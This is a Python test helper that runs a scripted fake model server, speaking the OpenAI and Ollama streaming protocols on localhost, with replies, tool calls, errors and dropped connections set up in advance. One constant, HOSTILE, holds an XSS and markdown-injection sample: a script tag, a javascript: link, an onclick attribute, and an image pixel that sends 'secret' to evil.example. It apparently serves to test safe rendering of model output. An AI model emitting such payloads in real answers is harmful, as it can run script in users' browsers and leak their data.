"""A scripted model server: two protocols over real HTTP, saying what the test wrote down.

    with ScriptedModel("Hello!", Reply(calls=[("add_task", {"name": "Tea"})])) as server:
        model = server.openai()        # or server.ollama()
        ...
        server.requests                # what it was asked, oldest first
        server.hung_up.wait(60)        # the client closed the connection in the middle of an answer

It runs uvicorn in a thread on a free port of 127.0.0.1.  Answers are used up in order; `say`
adds more, `otherwise` (a function from request body to reply) answers when they are used up.
Nothing here sleeps: `hold` waits for `release()`.
"""

import asyncio
import json
import re
import socket
import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from typing import Any

import uvicorn

from pipulate.chat.providers import OLLAMA, OPENAI, Remote

HOSTILE = (
    "# Hi\n<script>alert(1)</script>\n![pixel](https://evil.example/?q=secret) "
    "[click](javascript:alert(1)) <b onclick=x>"
)


@dataclass
class Reply:
    """One answer.  `text` is sent word by word, `calls` are tool calls (name, arguments)."""

    text: str = ""
    calls: list[tuple[str, Any]] = field(default_factory=list)
    thinking: str = ""
    end: str = "stop"
    error: str = ""  # reported inside the stream, after the text
    status: int = 200
    raw: bytes | None = None  # sent instead of the protocol
    pieces: int = 0  # cut the body into chunks of so many bytes, through lines and characters
    cut: int = -1  # drop the connection after so many bytes
    hold: int = -1  # wait for `release()` before the chunk of this number
    endless: bool = False  # say the first word again and again until the client hangs up


class ScriptedModel:
    """The server.  `models` are the names it lists; `facts` is merged into the answer of
    Ollama's /api/show.
    """

    def __init__(
        self,
        *replies: Reply | str,
        models: tuple[str, ...] = ("scripted:1b",),
        key: str = "",
        facts: dict[str, Any] | None = None,
        tags: list[dict[str, Any]] | None = None,
        otherwise: Callable[[dict[str, Any]], Reply | str] | None = None,
    ) -> None:
        self.replies, self.models, self.key, self.otherwise = list(replies), models, key, otherwise
        self.facts = {
            "capabilities": ["completion", "tools"],
            "model_info": {"llama.context_length": 4096},
        } | (facts or {})
        self.tags = [{"model": name, "name": name} for name in models] + (tags or [])
        self.requests: list[dict[str, Any]] = []
        self.paths: list[str] = []
        self.asked, self.hung_up, self._go = threading.Event(), threading.Event(), threading.Event()

    def __enter__(self) -> "ScriptedModel":
        self._socket = socket.create_server(
            ("127.0.0.1", 0)
        )  # connections queue here until the thread serves them
        self.url = f"http://127.0.0.1:{self._socket.getsockname()[1]}"
        self._loop, self._over = asyncio.new_event_loop(), asyncio.Event()
        self._thread = threading.Thread(target=self._loop.run_until_complete, args=[self._serve()])
        self._thread.start()
        return self

    def __exit__(self, *exception: object) -> None:
        self._go.set()
        self._loop.call_soon_threadsafe(self._over.set)
        self._thread.join()
        self._loop.close()
        self._socket.close()

    async def _serve(self) -> None:
        config = uvicorn.Config(
            self._app, log_level="critical", lifespan="off", ws="none", interface="asgi3"
        )
        server = uvicorn.Server(config)
        serving = asyncio.create_task(server.serve(sockets=[self._socket]))
        await self._over.wait()
        serving.cancel()  # uvicorn's own shutdown takes 0.2 s, in each of many tests
        for listener in getattr(server, "servers", []):
            listener.close()
        for connection in list(server.server_state.connections):
            connection.transport.abort()
        rest = asyncio.all_tasks() - {asyncio.current_task()}
        for task in rest:
            task.cancel()
        await asyncio.gather(*rest, return_exceptions=True)
        await self._loop.shutdown_default_executor()

    def openai(self, **more: Any) -> Remote:
        """A client that speaks OpenAI's protocol."""
        return Remote(OPENAI, f"{self.url}/v1", self.models[0], **more)

    def ollama(self, **more: Any) -> Remote:
        """A client that speaks Ollama's protocol."""
        return Remote(OLLAMA, self.url, self.models[0], place="Ollama", **more)

    def say(self, *replies: Reply | str) -> None:
        """Add to what will be answered."""
        self.replies += replies

    def release(self) -> None:
        """Let an answer that holds go on."""
        self._go.set()

    async def _app(self, scope: Any, receive: Any, send: Any) -> None:
        body = b""
        while (message := await receive()).get("more_body") or message.get("body"):
            body += message["body"]
            if not message.get("more_body"):
                break
        asked = json.loads(body or b"{}")
        self.paths.append(scope["path"])
        key = dict(scope["headers"]).get(b"authorization", b"").decode()
        if self.key and key != f"Bearer {self.key}":
            wrong = {
                "error": {"message": f"Incorrect API key provided: {key.removeprefix('Bearer ')}"}
            }
            return await _json(send, wrong, 401)
        match scope["path"]:
            case "/api/tags":
                return await _json(send, {"models": self.tags})
            case "/api/show" if asked["model"] in self.models:
                return await _json(send, self.facts)
            case "/v1/models":
                return await _json(send, {"data": [{"id": name} for name in self.models]})
            case "/api/chat" | "/v1/chat/completions" if asked["model"] in self.models:
                self.requests.append(asked)
                self.asked.set()
                return await self._answer(asked, "api" in scope["path"], receive, send)
        return await _json(send, {"error": f"model '{asked.get('model')}' not found"}, 404)

    async def _answer(self, asked: dict[str, Any], ollama: bool, receive: Any, send: Any) -> None:
        if not self.replies and not self.otherwise:
            await _json(send, {"error": "the script is over"}, 500)
            return
        reply = self.replies.pop(0) if self.replies else self.otherwise(asked)  # type: ignore[misc]
        reply = Reply(reply) if isinstance(reply, str) else reply
        gone = asyncio.ensure_future(
            receive()
        )  # the next thing to hear is that the client has gone
        chunks = (
            list(_ollama(reply) if ollama else _openai(reply)) if reply.raw is None else [reply.raw]
        )
        body = b"".join(chunks)
        if reply.pieces:
            chunks = [body[at : at + reply.pieces] for at in range(0, len(body), reply.pieces)]
        if reply.cut >= 0:
            chunks = [body[: reply.cut]]
        if reply.hold:
            await _start(send, reply.status, ollama)
        for number, chunk in enumerate(chunks):
            if number == reply.hold:
                await asyncio.wait(
                    {gone, asyncio.ensure_future(asyncio.to_thread(self._go.wait))},
                    return_when=asyncio.FIRST_COMPLETED,
                )
                if number == 0 and not gone.done():
                    await _start(send, reply.status, ollama)
            if gone.done():
                self.hung_up.set()
                return
            await send({"type": "http.response.body", "body": chunk, "more_body": True})
        if reply.cut >= 0:
            gone.cancel()
            raise ConnectionAbortedError("as the script says")
        while reply.endless and not gone.done():
            word = next(_ollama(reply) if ollama else _openai(reply))
            await send({"type": "http.response.body", "body": word, "more_body": True})
            await asyncio.sleep(0)
        if gone.done():
            self.hung_up.set()
            return
        gone.cancel()
        await send({"type": "http.response.body", "body": b""})


def _openai(reply: Reply) -> Iterator[bytes]:
    def event(delta: dict[str, Any], end: str | None = None) -> bytes:
        choice = {"index": 0, "delta": delta, "finish_reason": end}
        return f"data: {json.dumps({'choices': [choice]}, ensure_ascii=False)}\n\n".encode()

    if not reply.endless:
        yield event({"role": "assistant", "content": None})
    if reply.thinking:
        yield event({"reasoning_content": reply.thinking})
    for word in re.findall(r"\S+\s*|\s+", reply.text):
        yield event({"content": word})
    for index, (name, arguments) in enumerate(reply.calls):
        said = arguments if isinstance(arguments, str) else json.dumps(arguments)
        first = {
            "index": index,
            "id": f"call_{index}",
            "type": "function",
            "function": {"name": name, "arguments": ""},
        }
        yield event({"tool_calls": [first]})
        for half in (said[: len(said) // 2], said[len(said) // 2 :]):
            yield event({"tool_calls": [{"index": index, "function": {"arguments": half}}]})
    if reply.error:
        yield f"data: {json.dumps({'error': {'message': reply.error}})}\n\n".encode()
    elif not reply.endless:
        yield b": keep alive\n\n"
        yield event({}, "tool_calls" if reply.calls else reply.end)
        yield b'data: {"choices": [], "usage": {"total_tokens": 9}}\n\n'
        yield b"data: [DONE]\n\n"


def _ollama(reply: Reply) -> Iterator[bytes]:
    def event(message: dict[str, Any], **more: Any) -> bytes:
        message = {"role": "assistant", "content": ""} | message
        return (
            json.dumps({"message": message, "done": False} | more, ensure_ascii=False).encode()
            + b"\n"
        )

    if reply.thinking:
        yield event({"thinking": reply.thinking})
    for word in re.findall(r"\S+\s*|\s+", reply.text):
        yield event({"content": word})
    if reply.calls:
        yield event(
            {
                "tool_calls": [
                    {"function": {"name": name, "arguments": arguments}}
                    for name, arguments in reply.calls
                ]
            }
        )
    if reply.error:
        yield json.dumps({"error": reply.error}).encode() + b"\n"
    elif not reply.endless:
        yield event({}, done=True, done_reason=reply.end)


async def _start(send: Any, status: int, ollama: bool) -> None:
    kind = b"application/x-ndjson" if ollama else b"text/event-stream"
    await send(
        {"type": "http.response.start", "status": status, "headers": [(b"content-type", kind)]}
    )


async def _json(send: Any, document: dict[str, Any], status: int = 200) -> None:
    body = json.dumps(document).encode()
    headers = [(b"content-type", b"application/json"), (b"content-length", str(len(body)).encode())]
    await send({"type": "http.response.start", "status": status, "headers": headers})
    await send({"type": "http.response.body", "body": body})
